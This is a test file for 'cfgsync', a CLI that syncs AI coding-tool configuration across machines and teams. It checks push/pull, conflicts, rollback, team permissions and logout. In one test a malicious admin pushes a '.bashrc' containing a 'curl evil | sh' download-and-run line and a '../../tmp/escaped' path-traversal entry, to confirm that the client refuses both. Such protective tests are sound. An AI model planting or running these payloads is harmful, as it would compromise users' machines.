import { describe, expect, test } from 'bun:test'
import { existsSync, readFileSync, readdirSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { api, emptyDir, startServer, userWithKey, serversOfThisFile } from '../support/harness'
import { login, machine } from '../support/client/machines'

const servers = serversOfThisFile()

async function serverWithUsers() {
	const dir = emptyDir()
	const server = await startServer(dir)
	servers.push(server)
	const ada = await userWithKey(dir, 'ada', 'team')
	const ben = await userWithKey(dir, 'ben', 'pro')
	const cy = await userWithKey(dir, 'cy', 'pro')
	return { server, dir, ada, ben, cy }
}

describe('the cfgsync CLI against the compiled server', () => {
	test('first sync: login, push from one machine, pull on another; credentials are 0600', async () => {
		const { server, ada } = await serverWithUsers()
		const laptop = machine(server)
		const desktop = machine(server)
		const loggedIn = await login(laptop, ada, 'laptop')
		expect(loggedIn).toMatchObject({ code: 0 })
		expect(loggedIn.stdout).toContain('Logged in as ada')
		const credentials = join(laptop.home, '.config', 'cfgsync', 'credentials.json')
		expect(statSync(credentials).mode & 0o777).toBe(0o600)
		expect(JSON.parse(readFileSync(credentials, 'utf8'))).toMatchObject({
			server: server.url,
			device: 'laptop',
			username: 'ada'
		})

		laptop.file('.claude/settings.json', '{"theme":"dark"}\n')
		laptop.file('.claude/CLAUDE.md', '# House rules\nTabs.\n')
		const pushed = await laptop.cfgsync(['push', 'claude-code'])
		expect(pushed).toMatchObject({ code: 0 })
		expect(pushed.stdout).toContain('version 1 (2 files')
		const again = await laptop.cfgsync(['push', 'claude-code'])
		expect(again.stdout).toContain('already up to date')

		// What the server stored is the documented format, keyed by path relative to home.
		const stored = await api(server, 'GET', '/api/configs/latest?name=default&tool=claude-code', ada.key)
		expect(stored.body.data).toEqual({
			files: { '.claude/settings.json': '{"theme":"dark"}\n', '.claude/CLAUDE.md': '# House rules\nTabs.\n' }
		})
		expect(stored.body.version).toBe(1)

		expect((await login(desktop, ada, 'desktop')).code).toBe(0)
		const pulled = await desktop.cfgsync(['pull', 'claude-code'])
		expect(pulled).toMatchObject({ code: 0 })
		expect(pulled.stdout).toContain('2 created')
		expect(desktop.file('.claude/settings.json')).toBe('{"theme":"dark"}\n')
		expect(desktop.file('.claude/CLAUDE.md')).toBe('# House rules\nTabs.\n')
		expect((await desktop.cfgsync(['pull', 'claude-code'])).stdout).toContain('up to date')
		const listed = await desktop.cfgsync(['list', '--json'])
		expect(JSON.parse(listed.stdout)).toEqual([
			expect.objectContaining({ tool: 'claude-code', name: 'default', version: 1 })
		])
	}, 60_000)

	test('a push over a version this machine has not pulled is a conflict (exit 3, nothing sent); local edits survive a pull; --force backs up; rollback and history', async () => {
		const { server, ada } = await serverWithUsers()
		const laptop = machine(server)
		const desktop = machine(server)
		await login(laptop, ada, 'laptop')
		await login(desktop, ada, 'desktop')
		laptop.file('.gemini/settings.json', '{"v":1}')
		await laptop.cfgsync(['push', 'gemini-cli'])
		await desktop.cfgsync(['pull', 'gemini-cli'])
		desktop.file('.gemini/settings.json', '{"v":2,"from":"desktop"}')
		expect((await desktop.cfgsync(['push', 'gemini-cli'])).code).toBe(0)

		laptop.file('.gemini/settings.json', '{"v":2,"from":"laptop"}')
		const stale = await laptop.cfgsync(['push', 'gemini-cli'])
		expect(stale.code).toBe(3)
		expect(stale.stderr).toContain('~/.gemini/settings.json (changed here and on the server: from)')
		expect(stale.stderr).toContain('cfgsync resolve gemini-cli --mine')
		expect(
			(await api(server, 'GET', '/api/configs/latest?name=default&tool=gemini-cli', ada.key)).body.data.files[
				'.gemini/settings.json'
			]
		).toBe('{"v":2,"from":"desktop"}')

		const kept = await laptop.cfgsync(['pull', 'gemini-cli'])
		expect(kept.code).toBe(3)
		expect(kept.stderr).toContain('~/.gemini/settings.json')
		expect(laptop.file('.gemini/settings.json')).toBe('{"v":2,"from":"laptop"}')
		const diffed = await laptop.cfgsync(['diff', 'gemini-cli'])
		expect(diffed.stdout).toContain('-{"v":2,"from":"desktop"}')
		expect(diffed.stdout).toContain('+{"v":2,"from":"laptop"}')

		const dry = await laptop.cfgsync(['pull', 'gemini-cli', '--force', '--dry-run'])
		expect(dry.stdout).toContain('Would pull')
		expect(laptop.file('.gemini/settings.json')).toBe('{"v":2,"from":"laptop"}')
		const forced = await laptop.cfgsync(['pull', 'gemini-cli', '--force'])
		expect(forced.code).toBe(0)
		expect(laptop.file('.gemini/settings.json')).toBe('{"v":2,"from":"desktop"}')
		const backups = join(laptop.home, '.local', 'state', 'cfgsync', 'backups')
		const [backup] = readdirSync(backups)
		expect(readFileSync(join(backups, backup as string, '.gemini', 'settings.json'), 'utf8')).toBe(
			'{"v":2,"from":"laptop"}'
		)

		const history = await laptop.cfgsync(['history', 'gemini-cli', '--json'])
		expect(JSON.parse(history.stdout).versions.map((v: { version: number }) => v.version)).toEqual([2, 1])
		const rolled = await laptop.cfgsync(['rollback', 'gemini-cli', '--to', '1'])
		expect(rolled).toMatchObject({ code: 0 })
		expect(rolled.stdout).toContain('version 3 now holds what version 1 held')
		await laptop.cfgsync(['pull', 'gemini-cli'])
		expect(laptop.file('.gemini/settings.json')).toBe('{"v":1}')
		expect((await laptop.cfgsync(['diff', 'gemini-cli', '--from', '1', '--version', '2'])).stdout).toContain(
			'+{"v":2,"from":"desktop"}'
		)
	}, 60_000)

	test('team configs: an admin pushes, a member pulls but may not push; hostile paths are never written', async () => {
		const { server, ada, ben, cy } = await serverWithUsers()
		const owner = machine(server)
		const admin = machine(server)
		const member = machine(server)
		await login(owner, ada, 'o')
		await login(admin, ben, 'a')
		await login(member, cy, 'm')
		expect((await owner.cfgsync(['team', 'create', 'Platform', 'Team'])).stdout).toContain('(platform-team)')
		expect((await owner.cfgsync(['team', 'add', 'platform-team', 'ben', '--role', 'admin'])).code).toBe(0)
		expect((await owner.cfgsync(['team', 'add', 'platform-team', 'cy@example.test', '--role', 'member'])).code).toBe(0)
		// docs/api.md: adding sends an invitation; each invitee accepts it, once.
		expect((await admin.cfgsync(['invitations', '--json'])).stdout).toContain('"teamSlug": "platform-team"')
		expect((await admin.cfgsync(['invitations', 'accept', 'platform-team'])).code).toBe(0)
		expect((await member.cfgsync(['invitations', 'accept', 'platform-team'])).code).toBe(0)
		expect((await member.cfgsync(['invitations', 'accept', 'platform-team'])).code).toBe(1)
		expect(JSON.parse((await member.cfgsync(['teams', '--json'])).stdout)).toEqual([
			expect.objectContaining({ slug: 'platform-team', role: 'member' })
		])

		admin.file('.codex/AGENTS.md', 'Shared agent rules\n')
		const teamPush = await admin.cfgsync([
			'push',
			'codex',
			'--team',
			'platform-team',
			join(admin.home, '.codex', 'AGENTS.md')
		])
		expect(teamPush).toMatchObject({ code: 0 })
		// Someone else's memory file is reviewed: without a terminal it waits for --yes.
		expect((await member.cfgsync(['pull', 'codex', '--team', 'platform-team'])).code).toBe(1)
		expect(member.file('.codex/AGENTS.md')).toBeUndefined()
		expect((await member.cfgsync(['pull', 'codex', '--team', 'platform-team', '--yes'])).code).toBe(0)
		expect(member.file('.codex/AGENTS.md')).toBe('Shared agent rules\n')
		member.file('.codex/AGENTS.md', 'My version\n')
		const refused = await member.cfgsync(['push', 'codex', '--team', 'platform-team'])
		expect(refused.code).not.toBe(0)
		expect(refused.stderr).toContain('Not allowed')
		expect((await admin.cfgsync(['list', '--team', 'platform-team', '--json'])).stdout).toContain('"version": 1')

		// An admin pushes files the member's tool does not own, and paths that escape home, through the API.
		const team = (await api(server, 'GET', '/api/teams/platform-team', ben.key)).body
		const hostile = { '.bashrc': 'curl evil | sh\n', '.codex/config.toml': 'model = "x"\n' }
		await api(server, 'POST', '/api/configs', ben.key, {
			teamId: team.id,
			tool: 'codex',
			name: 'rules',
			data: { files: hostile }
		})
		const victim = machine(server)
		await login(victim, cy, 'v')
		const pulled = await victim.cfgsync(['pull', 'codex', '--team', 'platform-team', '--name', 'rules', '--yes'])
		expect(pulled.stdout).toContain('~/.bashrc (skipped')
		expect(victim.file('.bashrc')).toBeUndefined()
		expect(victim.file('.codex/config.toml')).toBe('model = "x"\n')
		await api(server, 'POST', '/api/configs', ben.key, {
			teamId: team.id,
			tool: 'codex',
			name: 'escape',
			data: { files: { '../../tmp/escaped': 'x', '.codex/AGENTS.md': 'y' } }
		})
		const escaping = await victim.cfgsync(['pull', 'codex', '--team', 'platform-team', '--name', 'escape', '--force'])
		expect(escaping.code).not.toBe(0)
		expect(escaping.stderr).toContain('unsafe path')
		expect(existsSync(join(victim.home, '..', '..', 'tmp', 'escaped'))).toBe(false)
	}, 60_000)

	test('logout revokes the key on the server and deletes the credentials; errors are one sentence, never a stack', async () => {
		const { server, ada } = await serverWithUsers()
		const laptop = machine(server)
		await login(laptop, ada, 'laptop')
		const key = JSON.parse(laptop.file('.config/cfgsync/credentials.json') as string).apiKey
		expect((await api(server, 'GET', '/api/me', key)).status).toBe(200)
		expect((await laptop.cfgsync(['whoami'])).stdout).toContain('ada <ada@example.test>')
		const out = await laptop.cfgsync(['logout'])
		expect(out).toMatchObject({ code: 0 })
		expect((await api(server, 'GET', '/api/me', key)).status).toBe(401)
		expect(laptop.file('.config/cfgsync/credentials.json')).toBeUndefined()
		const after = await laptop.cfgsync(['push', 'claude-code'])
		expect(after.code).not.toBe(0)
		expect(after.stderr).toContain('not logged in')

		const wrong = await laptop.cfgsync(['login', '--user', 'ada', '--password-stdin'], { stdin: 'nope\n' })
		expect(wrong.code).not.toBe(0)
		expect(wrong.stderr.trim()).toBe('cfgsync: Wrong login or password.')
		await login(laptop, ada, 'laptop')
		expect((await laptop.cfgsync(['history', 'vscode'])).stderr).toContain('does not exist')
		const free = machine(server)
		const nobody = await free.cfgsync(['login', '--server', 'http://127.0.0.1:1', '--user', 'x', '--password-stdin'], {
			stdin: 'y\n'
		})
		expect(nobody.stderr).toContain('cannot reach the server')
		for (const result of [after, wrong, nobody]) expect(result.stderr).not.toMatch(/\n\s+at /)
		expect((await laptop.cfgsync(['push', 'emacs'])).code).toBe(2)
		expect((await laptop.cfgsync(['--help'])).stdout).toContain('cfgsync <command>')
		expect((await laptop.cfgsync(['push', '--help'])).stdout).toContain('If-Match')
	}, 60_000)
})
